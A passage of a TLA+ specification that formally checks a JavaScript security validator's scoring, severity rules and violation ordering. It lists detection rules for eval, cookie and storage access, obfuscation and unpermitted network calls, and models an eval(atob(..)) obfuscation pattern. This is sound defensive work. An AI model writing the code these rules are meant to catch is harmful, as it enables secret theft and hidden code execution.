       /\ (ImportIndices = 1..Len(code) /\ \A i \in ImportIndices :
             ~IsUnknownPackage(Catalog[code[i]].source.value))
            => NoViolation

(* the same external import twice *)
C10_Witness ==
  /\ pc = "returned"
  /\ Len(signals.importedPackages) = 2
  /\ signals.importedPackages[1] = signals.importedPackages[2]
  /\ Cardinality(ExternalImportViolations) = 2

ScoreReturned == call.fn = "calculateSecurityScore" /\ ~IsUndefined(ret)

(* the signals one risk signal above sig: one more flag set, a higher       *)
(* entropy, one more imported package or one more referenced domain         *)
OneMoreSignal(sig) ==
       {[sig EXCEPT ![flag] = TRUE] : flag \in {f \in FlagNames : ~sig[f]}}
  \cup {[sig EXCEPT !.entropy = e] : e \in {x \in EntropyInputs : x > sig.entropy}}
  \cup {[sig EXCEPT !.importedPackages = Append(@, pkg)] : pkg \in PackageInputs}
  \cup {[sig EXCEPT !.referencedDomains = Append(@, domain)] : domain \in DomainInputs}

(* C11: the score is between 0 and 100, and setting one more flag, raising  *)
(* the entropy, appending an imported package or appending a referenced     *)
(* domain never gives a smaller score.                                      *)
C11_ScoreMonotone ==
  ScoreReturned
    => /\ ret.value \in 0..100
       /\ \A more \in OneMoreSignal(call.signals) :
            /\ calculateSecurityScore(more) \in 0..100
            /\ calculateSecurityScore(more) >= ret.value

(* 40 for the dynamic URL: higher entropy adds to it, an allowed package    *)
(* leaves it, a critical flag lifts it to 100                               *)
C11_Witness ==
  /\ ScoreReturned
  /\ ret.value = 40
  /\ call.signals.entropy = 0
  /\ \E more \in OneMoreSignal(call.signals) :
       more.entropy > ENTROPY_THRESHOLD /\ calculateSecurityScore(more) = 55
  /\ \E more \in OneMoreSignal(call.signals) : calculateSecurityScore(more) = 40
  /\ \E more \in OneMoreSignal(call.signals) : calculateSecurityScore(more) = 100

ReadmeRules ==
  {"no-eval", "no-string-timeout", "no-storage-access", "no-cookie-access",
   "no-indexeddb-access", "no-storage-event", "no-navigator-access", "no-dangerous-dom",
   "no-global-override", "no-prototype-pollution", "no-obfuscation", "no-external-import",
   "no-network-without-permission"}

(* the violations the detection pass raised as critical for a documented rule *)
DocumentedCritical ==
  SelectSeq(signals.detectedViolations,
            LAMBDA v : v.rule \in ReadmeRules /\ v.severity = "critical")

(* C12: a request without fileContext reports every violation raised as     *)
(* critical for a rule of the README table in violations.critical, and is   *)
(* not valid when there is one.                                             *)
C12_DefaultContextCritical ==
  (Responded /\ IsUndefined(fileContext))
    => /\ \A i \in 1..Len(DocumentedCritical) :
            \E j \in 1..Len(response.violations.critical) :
              response.violations.critical[j] = DocumentedCritical[i]
       /\ DocumentedCritical # <<>> => ~response.valid

Unclassified(context) ==
  ~context.isUserCode /\ ~context.isSharedLibrary /\ ~context.isBundledDependency

(* the claim as stated: a context with none of the three flags is strict    *)
(* whatever its filePath                                                    *)
C13_UnclassifiedStrict ==
  (AdjustReturned /\ Unclassified(call.context)) => ret.value = call.originalSeverity

(* C13: for a context whose three flags are all false,                      *)
(* adjustViolationSeverity returns the original severity for every rule,    *)
(* except when the filePath is exactly remoteEntry.js: then a technical     *)
(* rule is adjusted to warning, an always-critical rule to critical, and    *)
(* any other rule keeps its severity.                                       *)
C13_UnclassifiedStrictButEntryPoint ==
  (AdjustReturned /\ Unclassified(call.context))
    => IF call.context.filePath = Str("remoteEntry.js")
       THEN /\ call.rule \in TechnicalRules => ret.value = "warning"
            /\ call.rule \in AlwaysCriticalRules => ret.value = "critical"
            /\ call.rule \notin (TechnicalRules \cup AlwaysCriticalRules)
                 => ret.value = call.originalSeverity
       ELSE ret.value = call.originalSeverity

(* a file that is not the entry point, though its name ends like it *)
C13_Witness ==
  /\ AdjustReturned
  /\ Unclassified(call.context)
  /\ call.context.filePath = Str("myremoteEntry.js")
  /\ call.rule = "no-dangerous-dom"
  /\ call.originalSeverity = "critical"
  /\ ret.value = "critical"

HasViolation(rules) ==
  \E i \in 1..Len(signals.detectedViolations) : signals.detectedViolations[i].rule \in rules

BackingRules ==
  [hasEval |-> {"no-eval"},
   hasDynamicCodeExecution |-> {"no-string-timeout"},
   hasNetworkWithoutPermission |-> {"no-network-without-permission"},
   hasObfuscatedCode |-> {"no-obfuscation"},
   hasGlobalVariableOverride |-> {"no-global-override", "no-prototype-pollution"},
   hasStorageAccess |-> {"no-storage-access", "no-cookie-access", "no-indexeddb-access",
                         "no-storage-event"},
   hasNavigatorAccess |-> {"no-navigator-access"},
   hasDangerousDOMManipulation |-> {"no-dangerous-dom"}]

(* C14: at every point of the traversal and after the post-pass, a flag     *)
(* that is set, other than hasNetworkAPI, hasDynamicURLConstruction and     *)
(* suspiciousVariableNames, has a detected violation of one of its rules.   *)
C14_FlagsBacked ==
  \A flag \in DOMAIN BackingRules : signals[flag] => HasViolation(BackingRules[flag])

(* inside the walk, right after the callback of the assignment              *)
(* navigator.x = 1: its target was visited first and raised                 *)
(* no-navigator-access                                                      *)
C14_Witness ==
  /\ pc = "walk"
  /\ Len(code) = 2
  /\ line = 2
  /\ idx = 1
  /\ Catalog[code[1]].type = "ExpressionStatement"
  /\ Catalog[code[1]].expression.type = "AssignmentExpression"
  /\ IsGlobalOverride(Catalog[code[1]].expression.left)
  /\ Catalog[code[1]].expression.left.object.name = Str("navigator")
  /\ signals.hasNavigatorAccess
  /\ signals.hasGlobalVariableOverride
  /\ HasViolation({"no-navigator-access"})
  /\ HasViolation({"no-global-override"})

NetworkAPINames == {Str("fetch"), Str("XMLHttpRequest"), Str("WebSocket")}

(* a call of a network API by its name *)
IsNetworkCall(node) ==
  /\ node.type = "CallExpression"
  /\ node.callee.type = "Identifier"
  /\ node.callee.name \in NetworkAPINames

HasLiteralURL(node) ==
  /\ Len(node.arguments) >= 1
  /\ node.arguments[1].type = "Literal"
  /\ node.arguments[1].typeof = "string"

(* C15: a call of fetch, XMLHttpRequest or WebSocket sets hasNetworkAPI; a  *)
(* string literal first argument is captured for domain extraction; any     *)
(* other first argument, or none, sets hasDynamicURLConstruction, and the   *)
(* post-pass then raises no-network-without-permission.                     *)
C15_NetworkCalls ==
  AnalysisReturned
    => \A i \in 1..Len(code) : \A node \in CatalogNodes[code[i]] :
         IsNetworkCall(node)
           => /\ signals.hasNetworkAPI
              /\ HasLiteralURL(node) => node.arguments[1].value \in Range(urlStrings)
              /\ ~HasLiteralURL(node)
                   => /\ signals.hasDynamicURLConstruction
                      /\ signals.hasNetworkWithoutPermission
                      /\ HasViolation({"no-network-without-permission"})

Located(violation) == "location" \in DOMAIN violation

Violations == signals.detectedViolations

StartsNoLater(a, b) ==
  \/ a.location.line < b.location.line
  \/ a.location.line = b.location.line /\ a.location.column <= b.location.column

(* the claim as stated: the violations of the traversal are ordered by the  *)
(* start of their node, and those of the post-pass follow                   *)
C16_SourceOrder ==
  AnalysisReturned
    => \A i, j \in 1..Len(Violations) :
         i < j => /\ (Located(Violations[i]) /\ Located(Violations[j]))
                       => StartsNoLater(Violations[i], Violations[j])
                  /\ Located(Violations[j]) => Located(Violations[i])

(* in statement k, a node that starts at column inner lies strictly inside  *)
(* a node that starts at column outer                                       *)
NestedColumns ==
  [k \in 1..Len(Catalog) |->
     {<<StatementVisits[k][a].column, StatementVisits[k][b].column>> :
        <<a, b>> \in {p \in (1..Len(StatementVisits[k])) \X (1..Len(StatementVisits[k])) :
                        /\ StatementVisits[k][p[2]].column < StatementVisits[k][p[1]].column
                        /\ StatementVisits[k][p[1]].column + Width(StatementVisits[k][p[1]].node)
                             <= StatementVisits[k][p[2]].column
                                  + Width(StatementVisits[k][p[2]].node)}}]

NestedAt(k, inner, outer) == <<inner, outer>> \in NestedColumns[k]

ViolationAt(rule, atLine, column) ==
  {i \in 1..Len(Violations) :
     /\ Located(Violations[i])
     /\ Violations[i].rule = rule
     /\ Violations[i].location.line = atLine
     /\ Violations[i].location.column = column}

IsCallOf(node, name) ==
  /\ node.type = "CallExpression"
  /\ node.callee.type = "Identifier"
  /\ node.callee.name = Str(name)

(* eval(atob(..)) in statement k: the columns of the atob call and of the   *)
(* eval call whose first argument it is                                     *)
EvalOfAtob ==
  [k \in 1..Len(Catalog) |->
     {<<StatementVisits[k][a].column, StatementVisits[k][b].column>> :
        <<a, b>> \in {p \in (1..Len(StatementVisits[k])) \X (1..Len(StatementVisits[k])) :
                        /\ IsCallOf(StatementVisits[k][p[1]].node, "atob")
                        /\ IsCallOf(StatementVisits[k][p[2]].node, "eval")
                        /\ StatementVisits[k][p[1]].column =
                             StatementVisits[k][p[2]].column + Len(Str("eval("))}}]

(* C16: detectedViolations is in the order of the callbacks: the violations *)
(* of the traversal are ordered by line and precede those of the post-pass; *)
(* within a line a violation is listed before one that starts earlier only  *)
(* when its node is nested inside the other's, and then it always is: in    *)
(* eval(atob(..)) the no-obfuscation of atob precedes the no-eval of eval.   *)
C16_CallbackOrder ==
  AnalysisReturned
    => /\ \A i, j \in 1..Len(Violations) :
            i < j => /\ (Located(Violations[i]) /\ Located(Violations[j]))
                          => \/ StartsNoLater(Violations[i], Violations[j])
                             \/ /\ Violations[i].location.line = Violations[j].location.line
                                /\ NestedAt(code[Violations[i].location.line],
                                            Violations[i].location.column,
                                            Violations[j].location.column)
                     /\ Located(Violations[j]) => Located(Violations[i])
       /\ \A atLine \in 1..Len(code) : \A columns \in EvalOfAtob[code[atLine]] :
            \E i \in ViolationAt("no-obfuscation", atLine, columns[1]),
               j \in ViolationAt("no-eval", atLine, columns[2]) : i < j

(* run(eval(atob(code))) on line 1 and a post-pass violation at the end *)
C16_Witness ==
  /\ pc = "returned"
  /\ Len(code) = 2
  /\ EvalOfAtob[code[1]] # {}
  /\ Len(Violations) = 3
  /\ Violations[1].rule = "no-obfuscation"
  /\ Violations[2].rule = "no-eval"
  /\ Violations[1].location.line = 1
  /\ Violations[2].location.line = 1
  /\ Violations[1].location.column > Violations[2].location.column
  /\ ~Located(Violations[3])

(* C17: when the detection pass returns a violation, the score of the       *)
(* returned signals is 100 and the verdict is REJECT; a critical violation  *)
(* never comes with APPROVE or REVIEW.                                      *)
C17_ViolationsRejected ==
  (AnalysisReturned /\ Violations # <<>>)
    => /\ \A i \in 1..Len(Violations) : Violations[i].severity = "critical"
       /\ ScoreNow = 100
       /\ getSecurityVerdict(ScoreNow) = "REJECT"

IsNetworkConstruction(node) ==
  /\ node.type = "NewExpression"
  /\ node.callee.type = "Identifier"
  /\ node.callee.name \in {Str("WebSocket"), Str("XMLHttpRequest")}

(* C18: new WebSocket(..) or new XMLHttpRequest() sets hasNetworkAPI, so    *)
(* the network APIs are listed in detectedAPIs; a literal URL argument has  *)
(* its domain in referencedDomains and, when the domain is not permitted,   *)
(* the permission check raises no-network-without-permission.               *)
C18_ConstructorsDetected ==
  AnalysisReturned
    => \A i \in 1..Len(code) : \A node \in CatalogNodes[code[i]] :
         IsNetworkConstruction(node)
           => /\ signals.hasNetworkAPI
              /\ Responded
                   => SeqIncludes(response.analysis.detectedAPIs,
                                  "fetch/WebSocket/XMLHttpRequest")
              /\ HasLiteralURL(node)
                   => /\ URLHostname(node.arguments[1].value) \in Range(signals.referencedDomains)
                      /\ URLHostname(node.arguments[1].value) \notin PermittedDomains
                           => signals.hasNetworkWithoutPermission

(* the k-th smallest element of a set of indices *)
Kth(indices, k) == CHOOSE i \in indices : Cardinality({j \in indices : j < i}) = k - 1

WarningIndices ==
  LET adjusted == AdjustedSeverities
  IN {i \in 1..Len(Violations) : adjusted[i] # "critical"}

(* bucket lists, in order, the detected violations at indices, each with   *)
(* the given severity and otherwise as detected                             *)
IsBucketOf(bucket, indices, severity) ==
  /\ Len(bucket) = Cardinality(indices)
  /\ \A k \in 1..Len(bucket) :
       bucket[k] = [Violations[Kth(indices, k)] EXCEPT !.severity = severity]

PartitionReported ==
  Responded
    => LET adjusted == AdjustedSeverities
           criticalIndices == {i \in 1..Len(Violations) : adjusted[i] = "critical"}
           warningIndices == {i \in 1..Len(Violations) : adjusted[i] = "warning"}
       IN /\ criticalIndices \cup warningIndices = 1..Len(Violations)
          /\ Len(response.violations.critical) + Len(response.violations.warnings)
               = Len(Violations)
          /\ IsBucketOf(response.violations.critical, criticalIndices, "critical")
          /\ IsBucketOf(response.violations.warnings, warningIndices, "warning")

(* C19: the critical and the warnings bucket of a response are the detected *)
(* violations whose adjusted severity is critical, respectively warning,    *)
(* each in detection order and each violation in exactly one of them; an    *)
(* entry differs from the detected violation in its severity only, and the  *)
(* detected violations of the signals are the same after validate.          *)
C19_ViolationsPartitioned == [](PartitionReported) /\ [][signals' = signals \/ pc = "walk"]_vars

(* a response with both buckets filled and a downgraded violation *)
C19_Witness ==
  /\ Responded
  /\ Len(response.violations.critical) >= 1
  /\ Len(response.violations.warnings) >= 2
  /\ \E k \in 1..Len(response.violations.warnings) :
       /\ Located(response.violations.warnings[k])
       /\ Violations[Kth(WarningIndices, k)].severity = "critical"

=============================================================================
